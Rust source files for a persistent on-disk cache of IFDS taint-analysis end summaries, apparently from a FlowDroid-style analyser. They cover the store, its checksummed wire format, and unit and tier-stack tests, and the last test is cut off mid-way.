    pub fn entry_count(&self) -> usize {
        self.methods.values().map(|m| m.entries.len()).sum()
    }

    /// Returns `true` if nothing is stored.
    pub fn is_empty(&self) -> bool {
        self.methods.is_empty()
    }

    /// Iterates `(signature, summaries)` in signature order.
    pub fn iter(&self) -> impl Iterator<Item = (&String, &MethodSummaries)> {
        self.methods.iter()
    }

    /// Records summaries for `(sig, body_hash, entry)`. A differing
    /// stored body hash means the method changed: all its old entries
    /// are dropped first. Exit summaries are kept sorted and deduped so
    /// the store contents — and the file bytes — are canonical.
    pub fn insert(&mut self, sig: &str, body_hash: u64, entry: SymFact, exits: Vec<SymSummary>) {
        let m = self.methods.entry(sig.to_owned()).or_default();
        if m.body_hash != body_hash {
            m.entries.clear();
            m.body_hash = body_hash;
        }
        let slot = m.entries.entry(entry).or_default();
        slot.extend(exits);
        slot.sort();
        slot.dedup();
    }

    /// Looks up the summaries for `(sig, body_hash, entry)`.
    pub fn lookup(&self, sig: &str, body_hash: u64, entry: &SymFact) -> Lookup {
        match self.methods.get(sig) {
            None => Lookup::Miss,
            Some(m) if m.body_hash != body_hash => Lookup::Stale,
            Some(m) => match m.entries.get(entry) {
                Some(exits) => Lookup::Hit(exits.clone()),
                None => Lookup::Miss,
            },
        }
    }

    /// Merges all of `other`'s entries into `self` (other's body hashes
    /// win on conflict — they are newer).
    pub fn merge(&mut self, other: &SummaryStore) {
        for (sig, ms) in &other.methods {
            for (entry, exits) in &ms.entries {
                self.insert(sig, ms.body_hash, entry.clone(), exits.clone());
            }
        }
    }

    /// Serializes the store to its wire format (including checksum).
    pub fn to_bytes(&self) -> Vec<u8> {
        let mut w = Writer::new();
        w.buf.extend_from_slice(&MAGIC);
        w.u32(VERSION);
        w.u64(self.context_hash);
        w.u64(self.methods.len() as u64);
        for (sig, ms) in &self.methods {
            w.str(sig);
            w.u64(ms.body_hash);
            w.u32(u32::try_from(ms.entries.len()).expect("too many entries"));
            for (entry, exits) in &ms.entries {
                w.fact(entry);
                w.u32(u32::try_from(exits.len()).expect("too many exits"));
                for s in exits {
                    w.u32(s.exit_idx);
                    w.fact(&s.fact);
                }
            }
        }
        let checksum = fnv1a64(&w.buf);
        w.u64(checksum);
        w.buf
    }

    /// Deserializes a store from its wire format.
    ///
    /// # Errors
    ///
    /// Returns [`StoreError`] on bad magic, unknown version, truncation
    /// or checksum mismatch. Never panics on malformed input.
    pub fn from_bytes(bytes: &[u8]) -> Result<SummaryStore, StoreError> {
        let mut r = Reader::new(bytes);
        if r.remaining() < MAGIC.len() + 4 + 8 + 8 + 8 {
            return Err(StoreError::Corrupt("file too short"));
        }
        let mut magic = [0u8; 4];
        for slot in &mut magic {
            *slot = r.u8()?;
        }
        if magic != MAGIC {
            return Err(StoreError::BadMagic);
        }
        let version = r.u32()?;
        if version != VERSION {
            return Err(StoreError::BadVersion(version));
        }
        // Verify the trailing checksum before trusting any counts.
        let body_len = bytes.len() - 8;
        let stored = u64::from_le_bytes(
            bytes[body_len..].try_into().expect("checksum slice is 8 bytes"),
        );
        if fnv1a64(&bytes[..body_len]) != stored {
            return Err(StoreError::Corrupt("checksum mismatch"));
        }
        let context_hash = r.u64()?;
        let method_count = r.u64()?;
        let mut store = SummaryStore::new(context_hash);
        for _ in 0..method_count {
            if r.pos() >= body_len {
                return Err(StoreError::Corrupt("method table overruns checksum"));
            }
            let sig = r.str()?;
            let body_hash = r.u64()?;
            let entry_count = r.count(5)?;
            let ms = store.methods.entry(sig).or_default();
            ms.body_hash = body_hash;
            for _ in 0..entry_count {
                let entry = r.fact()?;
                let exit_count = r.count(5)?;
                let mut exits = Vec::with_capacity(exit_count);
                for _ in 0..exit_count {
                    exits.push(r.summary()?);
                }
                ms.entries.insert(entry, exits);
            }
        }
        if r.remaining() != 8 {
            return Err(StoreError::Corrupt("trailing bytes after method table"));
        }
        Ok(store)
    }

    /// Loads the store file inside `dir`.
    ///
    /// # Errors
    ///
    /// Returns [`StoreError::Io`] (including not-found, which callers
    /// usually treat as an empty store) or a decode error.
    pub fn load_dir(dir: &Path) -> Result<SummaryStore, StoreError> {
        let bytes = std::fs::read(dir.join(STORE_FILE_NAME))?;
        Self::from_bytes(&bytes)
    }

    /// Atomically writes the store file inside `dir` (temp file +
    /// rename), creating the directory if needed.
    ///
    /// # Errors
    ///
    /// Returns any underlying I/O error.
    pub fn save_dir(&self, dir: &Path) -> io::Result<()> {
        std::fs::create_dir_all(dir)?;
        let tmp = dir.join(format!("{STORE_FILE_NAME}.tmp.{}", std::process::id()));
        std::fs::write(&tmp, self.to_bytes())?;
        std::fs::rename(&tmp, dir.join(STORE_FILE_NAME))
    }
}

/// A process-shared store with a *visible / fresh* split.
///
/// Lookups read only the `visible` half (what was on disk when the
/// store was opened, plus anything promoted by a flush). Newly computed
/// summaries are recorded into the `fresh` half and become visible —
/// and persistent — only after [`flush_dir`]. A run therefore never
/// consumes its own discoveries, keeping cold runs bit-identical to
/// uncached runs.
#[derive(Debug)]
pub struct SharedStore {
    dir: PathBuf,
    /// Per-client namespace inside the cache directory (`""` shares
    /// the historical single-store layout).
    namespace: String,
    /// The tier stack this store loads from and flushes through.
    tiered: Arc<TieredStore>,
    visible: RwLock<SummaryStore>,
    fresh: Mutex<SummaryStore>,
    /// Which tier answered the open (`"memory"` / `"local"` /
    /// `"chunk"`), or `None` if the store started cold.
    loaded_from: Option<&'static str>,
    /// Whether an existing store file failed to load (corrupt,
    /// truncated or wrong version); the cache then starts cold instead
    /// of failing the analysis.
    load_error: Option<String>,
}

impl SharedStore {
    /// The cache directory this store persists to.
    pub fn dir(&self) -> &Path {
        &self.dir
    }

    /// The cache namespace this store belongs to.
    pub fn namespace(&self) -> &str {
        &self.namespace
    }

    /// Name of the tier that satisfied the open, if any.
    pub fn loaded_from(&self) -> Option<&'static str> {
        self.loaded_from
    }

    /// The load failure message, if the on-disk file was unusable.
    pub fn load_error(&self) -> Option<&str> {
        self.load_error.as_deref()
    }

    /// Looks up `(sig, body_hash, entry)` among the *visible*
    /// summaries.
    pub fn lookup(&self, sig: &str, body_hash: u64, entry: &SymFact) -> Lookup {
        self.visible.read().unwrap().lookup(sig, body_hash, entry)
    }

    /// Number of visible methods.
    pub fn visible_methods(&self) -> usize {
        self.visible.read().unwrap().method_count()
    }

    /// Number of entries recorded but not yet flushed.
    pub fn fresh_entries(&self) -> usize {
        self.fresh.lock().unwrap().entry_count()
    }

    /// Runs `f` over the visible store (read-locked).
    pub fn with_visible<R>(&self, f: impl FnOnce(&SummaryStore) -> R) -> R {
        f(&self.visible.read().unwrap())
    }

    /// Records freshly computed summaries (not visible until flushed).
    /// Entries already visible with the same body hash are skipped —
    /// they came *from* the store.
    pub fn record(&self, sig: &str, body_hash: u64, entry: SymFact, exits: Vec<SymSummary>) {
        if matches!(self.lookup(sig, body_hash, &entry), Lookup::Hit(_)) {
            return;
        }
        self.fresh.lock().unwrap().insert(sig, body_hash, entry, exits);
    }

    /// Promotes fresh summaries into the visible half and persists the
    /// merged store through every tier (memory LRU, local file,
    /// content-addressed chunk store). Returns the number of visible
    /// methods after the merge.
    ///
    /// # Errors
    ///
    /// Returns the first I/O error from writing a tier.
    pub fn flush(&self) -> io::Result<usize> {
        let mut visible = self.visible.write().unwrap();
        let mut fresh = self.fresh.lock().unwrap();
        let staged = std::mem::replace(&mut *fresh, SummaryStore::new(visible.context_hash));
        visible.merge(&staged);
        let key = BlobKey::new(&self.namespace, visible.context_hash);
        self.tiered.store(&key, &visible.to_bytes())?;
        Ok(visible.method_count())
    }
}

type Registry = Mutex<HashMap<(PathBuf, String, u64), Arc<SharedStore>>>;

fn registry() -> &'static Registry {
    static REGISTRY: OnceLock<Registry> = OnceLock::new();
    REGISTRY.get_or_init(|| Mutex::new(HashMap::new()))
}

/// Default byte budget of the in-memory blob tier (per cache
/// directory).
const MEMORY_TIER_CAP: usize = 64 << 20;

type TieredRegistry = Mutex<HashMap<PathBuf, Arc<TieredStore>>>;

fn tiered_registry() -> &'static TieredRegistry {
    static TIERED: OnceLock<TieredRegistry> = OnceLock::new();
    TIERED.get_or_init(|| Mutex::new(HashMap::new()))
}

/// The tier stack persisting cache directory `dir` (one per directory,
/// shared by every namespace and context).
pub fn tiered_store(dir: &Path) -> Arc<TieredStore> {
    let mut reg = tiered_registry().lock().unwrap();
    Arc::clone(
        reg.entry(dir.to_path_buf())
            .or_insert_with(|| Arc::new(TieredStore::standard(dir, MEMORY_TIER_CAP))),
    )
}

/// Opens (or returns the already-open) shared store for `dir` under
/// the default namespace. See [`open_shared_ns`].
pub fn open_shared(dir: &Path, context_hash: u64) -> Arc<SharedStore> {
    open_shared_ns(dir, "", context_hash)
}

/// Opens (or returns the already-open) shared store for `dir` under
/// namespace `ns` and `context_hash`. On a registry miss the blob is
/// fetched through the tier stack (memory LRU → local file →
/// content-addressed chunks) and decoded once per `(directory,
/// namespace, context)` triple; a missing blob starts cold, and a
/// corrupt or incompatible local file is *rejected cleanly* — the
/// store starts cold and remembers the reason (see
/// [`SharedStore::load_error`]). A blob written under a different
/// `context_hash` is treated as absent. Namespaces never observe each
/// other's summaries.
pub fn open_shared_ns(dir: &Path, ns: &str, context_hash: u64) -> Arc<SharedStore> {
    let key = (dir.to_path_buf(), ns.to_string(), context_hash);
    let mut reg = registry().lock().unwrap();
    if let Some(existing) = reg.get(&key) {
        return Arc::clone(existing);
    }
    let tiered = tiered_store(dir);
    let blob_key = BlobKey::new(ns, context_hash);
    let valid = |bytes: &[u8]| {
        SummaryStore::from_bytes(bytes).map(|s| s.context_hash == context_hash).unwrap_or(false)
    };
    let (loaded, loaded_from) = match tiered.load(&blob_key, &valid) {
        Some((bytes, tier)) => (
            SummaryStore::from_bytes(&bytes).expect("validated blob decodes"),
            Some(tier),
        ),
        None => (SummaryStore::new(context_hash), None),
    };
    // If every tier missed but a local store file exists, surface why
    // it was unusable (corruption diagnostics; a context mismatch is
    // not an error).
    let load_error = if loaded_from.is_none() {
        let ns_dir = flowdroid_store::local_store_dir(dir, ns);
        match SummaryStore::load_dir(&ns_dir) {
            Ok(_) => None,
            Err(StoreError::Io(e)) if e.kind() == io::ErrorKind::NotFound => None,
            Err(e) => Some(e.to_string()),
        }
    } else {
        None
    };
    let shared = Arc::new(SharedStore {
        dir: dir.to_path_buf(),
        namespace: ns.to_string(),
        tiered,
        visible: RwLock::new(loaded),
        fresh: Mutex::new(SummaryStore::new(context_hash)),
        loaded_from,
        load_error,
    });
    reg.insert(key, Arc::clone(&shared));
    shared
}

/// Flushes every open shared store rooted at `dir` (all namespaces):
/// fresh summaries become visible to later sessions in this process
/// and are persisted through every tier.
///
/// # Errors
///
/// Returns the first I/O error encountered.
pub fn flush_dir(dir: &Path) -> io::Result<()> {
    let stores: Vec<Arc<SharedStore>> = {
        let reg = registry().lock().unwrap();
        reg.iter()
            .filter(|((d, _, _), _)| d == dir)
            .map(|(_, s)| Arc::clone(s))
            .collect()
    };
    for s in stores {
        s.flush()?;
    }
    Ok(())
}

/// Flushes and then *releases* every idle shared store rooted at `dir`
/// (idle = no session holds it). Later opens re-fetch the blob through
/// the tier stack — normally straight from the memory LRU — instead of
/// pinning every decoded store for the life of the process. Returns
/// the number of stores released.
///
/// # Errors
///
/// Returns the first I/O error from flushing.
pub fn release_dir(dir: &Path) -> io::Result<usize> {
    flush_dir(dir)?;
    let mut reg = registry().lock().unwrap();
    let before = reg.len();
    // Holding the registry lock, a strong count of 1 means only the
    // registry itself still references the store.
    reg.retain(|(d, _, _), s| d != dir || Arc::strong_count(s) > 1);
    Ok(before - reg.len())
}

/// Drops the in-memory blob tier for `dir` so the next open falls
/// through to the local-file tier (used by load tests and cache
/// maintenance; persisted tiers are untouched).
pub fn clear_memory_tier(dir: &Path) {
    tiered_store(dir).clear_memory();
}

/// Per-tier hit/miss/write counters for the stack rooted at `dir`.
pub fn tier_stats(dir: &Path) -> Vec<TierStatsNamed> {
    tiered_store(dir).stats()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{SymAp, SymBase, SymField};

    fn fact(slot: u32) -> SymFact {
        SymFact::Taint {
            ap: SymAp {
                base: SymBase::Local(slot),
                fields: vec![SymField { class: "C".into(), name: "f".into() }],
                truncated: false,
            },
            active: true,
            activation: None,
        }
    }

    fn sample() -> SummaryStore {
        let mut s = SummaryStore::new(42);
        s.insert(
            "<A: void m()>",
            7,
            SymFact::Zero,
            vec![SymSummary { exit_idx: 3, fact: fact(0) }],
        );
        s.insert(
            "<A: void m()>",
            7,
            fact(1),
            vec![
                SymSummary { exit_idx: 3, fact: fact(1) },
                SymSummary { exit_idx: 3, fact: fact(2) },
            ],
        );
        s.insert("<B: int g(int)>", 9, fact(0), vec![]);
        s
    }

    #[test]
    fn store_round_trips() {
        let s = sample();
        let bytes = s.to_bytes();
        let back = SummaryStore::from_bytes(&bytes).unwrap();
        assert_eq!(back, s);
        // Canonical: re-encoding produces identical bytes.
        assert_eq!(back.to_bytes(), bytes);
    }

    #[test]
    fn lookup_semantics() {
        let s = sample();
        assert!(matches!(s.lookup("<A: void m()>", 7, &SymFact::Zero), Lookup::Hit(_)));
        assert_eq!(s.lookup("<A: void m()>", 8, &SymFact::Zero), Lookup::Stale);
        assert_eq!(s.lookup("<A: void m()>", 7, &fact(9)), Lookup::Miss);
        assert_eq!(s.lookup("<Z: void z()>", 7, &SymFact::Zero), Lookup::Miss);
    }

    #[test]
    fn new_body_hash_drops_old_entries() {
        let mut s = sample();
        s.insert("<A: void m()>", 8, SymFact::Zero, vec![]);
        assert_eq!(s.lookup("<A: void m()>", 7, &fact(1)), Lookup::Stale);
        assert!(matches!(s.lookup("<A: void m()>", 8, &SymFact::Zero), Lookup::Hit(_)));
    }

    #[test]
    fn truncated_file_rejected() {
        let bytes = sample().to_bytes();
        for cut in 0..bytes.len() {
            assert!(
                SummaryStore::from_bytes(&bytes[..cut]).is_err(),
                "prefix of {cut} bytes must not decode"
            );
        }
    }

    #[test]
    fn corrupted_file_rejected() {
        let bytes = sample().to_bytes();
        for i in 0..bytes.len() {
            let mut bad = bytes.clone();
            bad[i] ^= 0x40;
            assert!(
                SummaryStore::from_bytes(&bad).is_err(),
                "flipping byte {i} must fail the checksum"
            );
        }
    }

    #[test]
    fn save_and_load_dir() {
        let dir = std::env::temp_dir().join(format!("fdss-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let s = sample();
        s.save_dir(&dir).unwrap();
        let back = SummaryStore::load_dir(&dir).unwrap();
        assert_eq!(back, s);
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn shared_store_hides_fresh_until_flush() {
        let dir = std::env::temp_dir().join(format!("fdss-shared-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let shared = open_shared(&dir, 1);
        assert!(shared.load_error().is_none());
        shared.record("<A: void m()>", 7, SymFact::Zero, vec![]);
        assert_eq!(shared.lookup("<A: void m()>", 7, &SymFact::Zero), Lookup::Miss);
        flush_dir(&dir).unwrap();
        assert!(matches!(shared.lookup("<A: void m()>", 7, &SymFact::Zero), Lookup::Hit(_)));
        // A later open of the same (dir, context) sees the same store.
        let again = open_shared(&dir, 1);
        assert!(matches!(again.lookup("<A: void m()>", 7, &SymFact::Zero), Lookup::Hit(_)));
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn corrupt_store_file_starts_cold() {
        let dir = std::env::temp_dir().join(format!("fdss-corrupt-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::write(dir.join(STORE_FILE_NAME), b"not a store").unwrap();
        let shared = open_shared(&dir, 2);
        assert!(shared.load_error().is_some());
        assert_eq!(shared.visible_methods(), 0);
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
