#![warn(missing_docs)]

//! Persistent on-disk store for IFDS end summaries.
//!
//! The taint solvers spend most of their time re-deriving end summaries
//! — `(callee, entry fact) → {(exit statement, exit fact)}` — for
//! platform stubs and library code that are byte-identical across every
//! app in a corpus. This crate persists those summaries between
//! processes so a later run can *apply* a callee's summaries instead of
//! re-tabulating its body.
//!
//! Arena ids (method ids, field ids, symbols, interned fact ids) are
//! assigned in load order and differ between processes, so everything
//! here is **symbolic**: methods are full signature strings, fields are
//! `(class name, field name)` pairs, facts are [`SymFact`] values that
//! the consumer re-interns into its own arenas on load
//! (`flowdroid-core` owns the `Fact ↔ SymFact` conversion). Local
//! variables are stored by raw slot index, which is safe because
//! summaries are only applied when the method's **body fingerprint**
//! matches (`flowdroid_ir::body_fingerprint` extended transitively by
//! the consumer), and equal fingerprints imply identical local tables.
//!
//! The on-disk format (one `summaries.fdss` file per cache directory
//! and namespace) is versioned and checksummed; see [`wire`] for the
//! exact layout. Corrupted, truncated or incompatible files are
//! rejected with a clean [`StoreError`], never a panic — a bad cache
//! degrades to a cold one.
//!
//! Persistence goes through the tier stack in `flowdroid-store`
//! (in-memory LRU → local store files → content-addressed chunk
//! store): opens replay the first valid blob any tier holds, flushes
//! write through all of them, and per-client *cache namespaces* key
//! disjoint stores inside one cache directory (see [`open_shared_ns`],
//! [`release_dir`], [`tier_stats`]).
//!
//! [`SharedStore`] layers a process-wide *visible / fresh* split on
//! top: lookups only see summaries loaded from disk (or explicitly
//! promoted), while newly recorded summaries accumulate in a side
//! buffer until [`flush_dir`] merges and persists them. This keeps a
//! cold run bit-identical to an uncached run — its own discoveries are
//! never applied to itself — which is what makes cold-vs-warm
//! determinism testable.

mod store;
pub mod wire;

pub use flowdroid_store::{local_store_dir, TierStats, TierStatsNamed};
pub use store::{
    clear_memory_tier, flush_dir, open_shared, open_shared_ns, release_dir, tier_stats,
    tiered_store, Lookup, MethodSummaries, SharedStore, StoreError, SummaryStore,
    STORE_FILE_NAME,
};

/// A field reference by value: declaring class name + field name.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct SymField {
    /// Fully qualified declaring class name.
    pub class: String,
    /// Field name.
    pub name: String,
}

/// The root of a symbolic access path.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SymBase {
    /// A local variable slot (stable under an equal body fingerprint).
    Local(u32),
    /// A static field.
    Static(SymField),
}

/// A symbolic access path: base plus field chain.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct SymAp {
    /// The root.
    pub base: SymBase,
    /// The field chain.
    pub fields: Vec<SymField>,
    /// Whether fields were dropped due to the length bound.
    pub truncated: bool,
}

/// A statement reference by value: method signature + statement index.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct SymStmt {
    /// Full signature of the containing method.
    pub method: String,
    /// Statement index within that method's body.
    pub idx: u32,
}

/// A symbolic taint fact.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SymFact {
    /// The IFDS zero fact.
    Zero,
    /// A (possibly inactive) taint on an access path.
    Taint {
        /// The tainted access path.
        ap: SymAp,
        /// Whether the taint is active.
        active: bool,
        /// Activation statement for inactive (alias-derived) taints.
        activation: Option<SymStmt>,
    },
}

/// One end summary: an exit statement (by index within the summarized
/// method) and the fact holding there.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub struct SymSummary {
    /// Exit statement index within the summarized method.
    pub exit_idx: u32,
    /// Fact holding at that exit.
    pub fact: SymFact,
}
