//! The `summaries.fdss` wire format.
//!
//! Layout (all integers little-endian):
//!
//! ```text
//! magic         4 bytes   "FDSS"
//! version       u32       currently 1
//! context_hash  u64       analysis-configuration fingerprint
//! method_count  u64
//! per method:
//!   signature     str       full method signature
//!   body_hash     u64       transitive body fingerprint
//!   entry_count   u32
//!   per entry:
//!     entry_fact    fact
//!     exit_count    u32
//!     per exit:     exit_idx u32, exit_fact fact
//! checksum      u64       FNV-1a 64 of every preceding byte
//! ```
//!
//! `str` is a u32 byte length followed by UTF-8 bytes. `fact` is a tag
//! byte (0 = zero, 1 = taint) and, for taints, an access path (base tag
//! 0 = local slot u32 / 1 = static field, field count u32, fields as
//! class + name strings, truncated u8), an active u8 and an optional
//! activation statement (tag u8, then method str + index u32).
//!
//! The checksum is FNV-1a rather than the workspace's Fx hash so this
//! crate stays dependency-free; it guards against truncation and
//! bit rot, not adversaries. Every decode path is bounds-checked and
//! returns [`StoreError::Corrupt`] instead of panicking.

use crate::store::StoreError;
use crate::{SymAp, SymBase, SymFact, SymField, SymStmt, SymSummary};

/// File magic.
pub const MAGIC: [u8; 4] = *b"FDSS";

/// Current format version.
pub const VERSION: u32 = 1;

/// FNV-1a 64-bit hash of `bytes`.
pub fn fnv1a64(bytes: &[u8]) -> u64 {
    let mut h: u64 = 0xcbf2_9ce4_8422_2325;
    for &b in bytes {
        h ^= u64::from(b);
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

// ================= encoding =================

pub(crate) struct Writer {
    pub(crate) buf: Vec<u8>,
}

impl Writer {
    pub(crate) fn new() -> Self {
        Writer { buf: Vec::new() }
    }

    pub(crate) fn u8(&mut self, v: u8) {
        self.buf.push(v);
    }

    pub(crate) fn u32(&mut self, v: u32) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub(crate) fn u64(&mut self, v: u64) {
        self.buf.extend_from_slice(&v.to_le_bytes());
    }

    pub(crate) fn str(&mut self, s: &str) {
        self.u32(u32::try_from(s.len()).expect("string too long for store"));
        self.buf.extend_from_slice(s.as_bytes());
    }

    pub(crate) fn field(&mut self, f: &SymField) {
        self.str(&f.class);
        self.str(&f.name);
    }

    pub(crate) fn fact(&mut self, f: &SymFact) {
        match f {
            SymFact::Zero => self.u8(0),
            SymFact::Taint { ap, active, activation } => {
                self.u8(1);
                match &ap.base {
                    SymBase::Local(slot) => {
                        self.u8(0);
                        self.u32(*slot);
                    }
                    SymBase::Static(fld) => {
                        self.u8(1);
                        self.field(fld);
                    }
                }
                self.u32(u32::try_from(ap.fields.len()).expect("field chain too long"));
                for fld in &ap.fields {
                    self.field(fld);
                }
                self.u8(ap.truncated as u8);
                self.u8(*active as u8);
                match activation {
                    None => self.u8(0),
                    Some(st) => {
                        self.u8(1);
                        self.str(&st.method);
                        self.u32(st.idx);
                    }
                }
            }
        }
    }
}

// ================= decoding =================

pub(crate) struct Reader<'a> {
    bytes: &'a [u8],
    pos: usize,
}

impl<'a> Reader<'a> {
    pub(crate) fn new(bytes: &'a [u8]) -> Self {
        Reader { bytes, pos: 0 }
    }

    pub(crate) fn pos(&self) -> usize {
        self.pos
    }

    pub(crate) fn remaining(&self) -> usize {
        self.bytes.len() - self.pos
    }

    fn take(&mut self, n: usize) -> Result<&'a [u8], StoreError> {
        if self.remaining() < n {
            return Err(StoreError::Corrupt("unexpected end of file"));
        }
        let s = &self.bytes[self.pos..self.pos + n];
        self.pos += n;
        Ok(s)
    }

    pub(crate) fn u8(&mut self) -> Result<u8, StoreError> {
        Ok(self.take(1)?[0])
    }

    pub(crate) fn u32(&mut self) -> Result<u32, StoreError> {
        let b = self.take(4)?;
        Ok(u32::from_le_bytes([b[0], b[1], b[2], b[3]]))
    }

    pub(crate) fn u64(&mut self) -> Result<u64, StoreError> {
        let b = self.take(8)?;
        Ok(u64::from_le_bytes([b[0], b[1], b[2], b[3], b[4], b[5], b[6], b[7]]))
    }

    /// Reads a count that prefixes elements of at least `min_elem_size`
    /// bytes each, rejecting counts the remaining input cannot hold (so
    /// a corrupted count cannot trigger a huge allocation).
    pub(crate) fn count(&mut self, min_elem_size: usize) -> Result<usize, StoreError> {
        let n = self.u32()? as usize;
        if n.saturating_mul(min_elem_size) > self.remaining() {
            return Err(StoreError::Corrupt("count exceeds remaining input"));
        }
        Ok(n)
    }

    pub(crate) fn str(&mut self) -> Result<String, StoreError> {
        let len = self.u32()? as usize;
        if len > self.remaining() {
            return Err(StoreError::Corrupt("string length exceeds remaining input"));
        }
        let bytes = self.take(len)?;
        String::from_utf8(bytes.to_vec())
            .map_err(|_| StoreError::Corrupt("string is not valid UTF-8"))
    }

    pub(crate) fn field(&mut self) -> Result<SymField, StoreError> {
        Ok(SymField { class: self.str()?, name: self.str()? })
    }

    pub(crate) fn fact(&mut self) -> Result<SymFact, StoreError> {
        match self.u8()? {
            0 => Ok(SymFact::Zero),
            1 => {
                let base = match self.u8()? {
                    0 => SymBase::Local(self.u32()?),
                    1 => SymBase::Static(self.field()?),
                    _ => return Err(StoreError::Corrupt("bad access-path base tag")),
                };
                let n = self.count(8)?; // a field is at least two length prefixes
                let mut fields = Vec::with_capacity(n);
                for _ in 0..n {
                    fields.push(self.field()?);
                }
                let truncated = match self.u8()? {
                    0 => false,
                    1 => true,
                    _ => return Err(StoreError::Corrupt("bad truncated flag")),
                };
                let active = match self.u8()? {
                    0 => false,
                    1 => true,
                    _ => return Err(StoreError::Corrupt("bad active flag")),
                };
                let activation = match self.u8()? {
                    0 => None,
                    1 => Some(SymStmt { method: self.str()?, idx: self.u32()? }),
                    _ => return Err(StoreError::Corrupt("bad activation tag")),
                };
                Ok(SymFact::Taint {
                    ap: SymAp { base, fields, truncated },
                    active,
                    activation,
                })
            }
            _ => Err(StoreError::Corrupt("bad fact tag")),
        }
    }

    pub(crate) fn summary(&mut self) -> Result<SymSummary, StoreError> {
        Ok(SymSummary { exit_idx: self.u32()?, fact: self.fact()? })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample_fact() -> SymFact {
        SymFact::Taint {
            ap: SymAp {
                base: SymBase::Local(3),
                fields: vec![SymField { class: "A".into(), name: "f".into() }],
                truncated: false,
            },
            active: false,
            activation: Some(SymStmt { method: "<A: void m()>".into(), idx: 7 }),
        }
    }

    #[test]
    fn fact_round_trips() {
        for f in [SymFact::Zero, sample_fact()] {
            let mut w = Writer::new();
            w.fact(&f);
            let mut r = Reader::new(&w.buf);
            assert_eq!(r.fact().unwrap(), f);
            assert_eq!(r.remaining(), 0);
        }
    }

    #[test]
    fn truncated_fact_is_rejected() {
        let mut w = Writer::new();
        w.fact(&sample_fact());
        for cut in 0..w.buf.len() {
            let mut r = Reader::new(&w.buf[..cut]);
            assert!(r.fact().is_err(), "cut at {cut} must not decode");
        }
    }

    #[test]
    fn huge_count_is_rejected_without_allocation() {
        let mut w = Writer::new();
        w.u8(1); // taint
        w.u8(0); // local base
        w.u32(0);
        w.u32(u32::MAX); // absurd field count
        let mut r = Reader::new(&w.buf);
        assert!(matches!(r.fact(), Err(StoreError::Corrupt(_))));
    }

    #[test]
    fn fnv_vector() {
        // Standard FNV-1a test vectors.
        assert_eq!(fnv1a64(b""), 0xcbf2_9ce4_8422_2325);
        assert_eq!(fnv1a64(b"a"), 0xaf63_dc4c_8601_ec8c);
    }
}
