//! Tier-stack behaviour of the shared summary store: opens replay the
//! first valid blob any tier holds (memory LRU → local file →
//! content-addressed chunks), releases let later opens hit the tiers
//! instead of the decoded-store registry, and per-client namespaces
//! never observe each other's summaries.

use flowdroid_summaries::{
    clear_memory_tier, local_store_dir, open_shared_ns, release_dir, tier_stats, Lookup,
    SymFact, STORE_FILE_NAME,
};
use std::path::PathBuf;

fn temp_dir(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("fdss-tiers-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn hits(dir: &PathBuf, tier: &str) -> u64 {
    tier_stats(dir)
        .iter()
        .find(|t| t.name == tier)
        .map(|t| t.stats.hits)
        .unwrap_or(0)
}

#[test]
fn reopen_walks_down_the_tiers_and_promotes_back() {
    let dir = temp_dir("walk");
    let ctx = 77;

    // Cold open: nothing anywhere; record + flush populates all tiers.
    let store = open_shared_ns(&dir, "", ctx);
    assert_eq!(store.loaded_from(), None);
    store.record("<A: void m()>", 9, SymFact::Zero, vec![]);
    drop(store);
    assert_eq!(release_dir(&dir).unwrap(), 1, "idle store is released");

    // Re-open: the registry entry is gone, the memory tier answers.
    let store = open_shared_ns(&dir, "", ctx);
    assert_eq!(store.loaded_from(), Some("memory"));
    assert!(matches!(store.lookup("<A: void m()>", 9, &SymFact::Zero), Lookup::Hit(_)));
    drop(store);
    release_dir(&dir).unwrap();

    // Drop the memory tier: the local store file answers.
    clear_memory_tier(&dir);
    let store = open_shared_ns(&dir, "", ctx);
    assert_eq!(store.loaded_from(), Some("local"));
    assert!(matches!(store.lookup("<A: void m()>", 9, &SymFact::Zero), Lookup::Hit(_)));
    drop(store);
    release_dir(&dir).unwrap();

    // Drop memory *and* the local file: only the chunk store is left —
    // and the hit is promoted back into the upper tiers.
    clear_memory_tier(&dir);
    std::fs::remove_file(dir.join(STORE_FILE_NAME)).unwrap();
    let store = open_shared_ns(&dir, "", ctx);
    assert_eq!(store.loaded_from(), Some("chunk"));
    assert!(matches!(store.lookup("<A: void m()>", 9, &SymFact::Zero), Lookup::Hit(_)));
    assert!(dir.join(STORE_FILE_NAME).is_file(), "chunk hit restores the local file");

    assert!(hits(&dir, "memory") >= 1);
    assert!(hits(&dir, "local") >= 1);
    assert!(hits(&dir, "chunk") >= 1);
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn namespaces_are_isolated_within_one_directory() {
    let dir = temp_dir("ns");
    let ctx = 11;

    let a = open_shared_ns(&dir, "tenant-a", ctx);
    a.record("<A: void m()>", 5, SymFact::Zero, vec![]);
    drop(a);
    release_dir(&dir).unwrap();

    // Same app, same context, different namespace: no cross-hits.
    let b = open_shared_ns(&dir, "tenant-b", ctx);
    assert_eq!(b.loaded_from(), None, "tenant-b starts cold");
    assert_eq!(b.lookup("<A: void m()>", 5, &SymFact::Zero), Lookup::Miss);

    // tenant-a's summaries are still there, in its own store file.
    let a = open_shared_ns(&dir, "tenant-a", ctx);
